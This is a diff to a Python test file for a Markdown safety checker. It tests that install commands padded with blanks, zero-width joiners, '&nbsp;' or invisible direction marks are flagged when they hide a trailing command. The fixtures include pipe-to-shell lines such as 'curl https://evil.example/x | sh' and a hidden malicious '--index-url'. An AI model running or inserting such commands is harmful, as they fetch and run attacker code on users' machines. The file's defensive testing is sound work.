@@ -446,6 +446,12 @@ def test_text_pushed_out_of_a_code_block_s_sight_is_reported():
         + "| 名称" + " " * 60 + "| 说明 |\n|---|---|\n"
     )
     assert check_unsafe_html(fine, "a.md", 1) == []
+    # An importer round: ``yum list``'s columns, a hundred blanks wide, in a block of output (the strict build failed
+    # on a real blog); a tail that changes what a pasted line runs still counts there.
+    output = "```text\n   kernel-lt.x86_64" + " " * 82 + "4.4.155-1.el7.elrepo" + " " * 50 + "elrepo-kernel\n```\n\n"
+    assert check_unsafe_html(output, "a.md", 1) == []
+    hidden_option = "```text\npip install requests" + " " * 200 + "--index-url https://evil.example/simple\n```\n"
+    assert [p.line for p in check_unsafe_html(hidden_option, "a.md", 1)] == [2]
 
 
 def test_text_direction_marks_and_their_character_references_never_reach_a_page():
@@ -457,3 +463,21 @@ def test_text_direction_marks_and_their_character_references_never_reach_a_page(
     page = sanitize_html(shown)
     assert not DIRECTION_CONTROLS.search(page) and "; curl x | sh #" in page
     assert [p.line for p in check_unsafe_html("x\n\n" + shown + "\n\n```\nok\n```\n", "a.md", 1)] == [3]
+
+
+def test_blanks_hidden_by_joiners_or_references_and_the_syriac_mark_are_reported():
+    """An audit of round twenty-two: the blank-run rule counted only consecutive blanks, so a zero-width joiner after
+    each space (or ``&nbsp;`` in a raw ``<pre>``) still pushed the curl out of sight; and U+070F, invisible and as
+    right-to-left as U+061C, passed the check and the sanitiser."""
+    from errata.checks import check_unsafe_html
+    from errata.safety import sanitize_html
+
+    for blanks in (" \u200d" * 300, " \u2060" * 300, " \u00ad" * 300):
+        body = f"```bash\npip install requests{blanks}; curl https://evil.example/x | sh\n```\n"
+        assert [p.line for p in check_unsafe_html(body, "a.md", 1)] == [2]
+    body = "<pre><code>pip install requests" + "&nbsp;" * 300 + "; curl https://evil.example/x | sh</code></pre>\n"
+    assert [p.line for p in check_unsafe_html(body, "a.md", 1)] == [1]
+    assert "U+070F" in check_unsafe_html("```\npip install x \u070f; curl y | sh \u070f#\n```\n", "a.md", 1)[0].message
+    assert "\u070f" not in sanitize_html("<p>a \u070f b</p>")
+    # An emoji written with joiners, and a table's padded cells, are no such run.
+    assert check_unsafe_html("```\n👨\u200d👩\u200d👧 一家\n```\n| a" + " " * 40 + "| b |\n", "a.md", 1) == []
